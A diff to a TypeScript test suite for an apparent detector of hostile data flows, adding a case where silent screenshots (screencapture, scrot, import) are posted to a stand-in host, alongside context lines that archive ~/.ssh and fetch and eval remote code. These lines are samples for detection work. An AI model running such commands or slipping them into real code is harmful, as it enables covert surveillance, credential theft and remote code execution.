@@ -24,6 +24,18 @@ describe('commands', () => {
     assert.deepEqual(flowsOf(`cp.execSync('tar cf /tmp/keys.tar ~/.ssh');`), []);
   });
 
+  it('leave pictures of the screen in files', () => {
+    const shot = (command: string) =>
+      `cp.execSync(${command}); fetch('https://collect.invalid', { method: 'POST', body: fs.readFileSync('/tmp/.s.png') });`;
+    for (const command of [
+      `'screencapture -x /tmp/.s.png'`,
+      `'scrot -z ' + '/tmp/.s.png'`,
+      `'import -window root /tmp/.s.png'`,
+    ])
+      assert.ok(flowsOf(shot(command)).includes('screenshot>network@collect.invalid'));
+    assert.deepEqual(flowsOf(shot(`'convert logo.svg /tmp/.s.png'`)), []);
+  });
+
   it('run the code that was put into a file for them', () => {
     const load = `require('https').get('https://load.invalid', (r) => r.on('data', (d) => eval(String(d))));`;
     const code = `fs.writeFileSync('/tmp/a.js', ${JSON.stringify(load)}); cp.spawn(process.execPath, ['/tmp/a.js']);`;
